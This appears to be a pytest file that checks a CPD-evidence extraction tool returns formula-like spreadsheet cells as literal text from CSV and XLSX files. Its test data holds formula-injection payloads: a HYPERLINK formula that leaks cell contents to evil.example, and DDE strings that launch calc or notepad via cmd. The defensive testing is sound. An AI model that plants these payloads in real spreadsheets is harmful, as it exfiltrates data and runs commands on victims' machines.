"""Cell text a spreadsheet would run as a formula (starting with =, +, -, @, a tab or a carriage return) comes
out of `cpd-evidence extract --json` as the literal text, never evaluated: a CSV, and an XLSX whose cells hold
that text as strings. (Neutralising it for spreadsheet exports is the export's job: ingest/year/export/safety.py.)
The contract whitespace-normalises titles, so a leading tab or CR is dropped and the rest kept as written."""
from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest

REPO = Path(__file__).resolve().parents[2]
HEADER = ["Title", "Provider", "Completion Date", "Hours", "Description"]
# Each a title, a provider and a description. Titles need letters: a row whose title has none is no activity.
PAYLOADS = [
    ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Ethics refresher\")", "=cmd|' /C calc'!A0", "=1+1"),
    ("+SUM(A1:A9) trust accounting", "+44 Harbour Academy", "+cmd|' /C notepad'!A0"),
    ("-2+3+cmd|' /C calc'!A0 AML update", "-Compliance Essentials", "-1"),
    ("@SUM(1+1)*cmd|' /C calc'!A0 probate", "@STEP", "@IF(1,2,3)"),
    ("\t=1+1 trustee duties", "\tTab Training Ltd", "\t=A1"),
    ("\r=2*3 data protection", "\rCR Learning", "\r+A2"),
]


def _rows() -> list[list[str]]:
    return [HEADER] + [[title, provider, f"{15 + n}/05/2024", "1", description]
                       for n, (title, provider, description) in enumerate(PAYLOADS)]


def _csv(path: Path) -> Path:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(_rows())
    path.write_bytes(buffer.getvalue().encode())
    return path


def _xlsx(path: Path) -> Path:
    """Every cell a string (openpyxl takes "=..." for a formula unless told otherwise)."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "CPD 2024"
    for row in _rows():
        sheet.append(row)
    for cells in sheet.iter_rows():
        for cell in cells:
            cell.data_type = "s"
    book.save(path)
    assert b"<f>" not in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")  # no formula in the file
    return path


def _extract(*paths: Path) -> list[dict[str, Any]]:
    command = Path(sys.executable).with_name("cpd-evidence")
    argv = [str(command)] if command.exists() else [sys.executable, "-m", "ingest"]
    done = subprocess.run([*argv, "extract", "--json", *map(str, paths)], cwd=REPO, capture_output=True,
                          timeout=120, check=False)
    assert done.returncode == 0, done.stderr.decode(errors="replace")[-2000:]
    return [json.loads(line) for line in done.stdout.splitlines() if line.strip()]


def _normalised(text: str) -> str:
    return " ".join(text.split())


@pytest.fixture(scope="module")
def extracted(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Any]]:
    folder = tmp_path_factory.mktemp("formulas")
    lines = _extract(_csv(folder / "formulas.csv"), _xlsx(folder / "formulas.xlsx"))
    return {line["file"]["filename"]: line for line in lines}


@pytest.mark.parametrize("filename", ["formulas.csv", "formulas.xlsx"])
@pytest.mark.parametrize("index", range(len(PAYLOADS)), ids=[p[0][:12].strip() for p in PAYLOADS])
def test_formula_like_text_is_literal(extracted: dict[str, dict[str, Any]], filename: str, index: int) -> None:
    """GIVEN a cell starting with =, +, -, @, tab or CR WHEN extracted THEN the JSON holds its text as written."""
    line = extracted[filename]
    assert line["error"] is None and len(line["activities"]) == len(PAYLOADS), line["error"]
    activity = line["activities"][index]
    title, provider, description = PAYLOADS[index]
    assert activity["title"] == _normalised(title)
    assert activity["provider"] == _normalised(provider)
    assert activity["description"] in (description, _normalised(description))
    assert activity["completed_on"] == f"2024-05-{15 + index}"
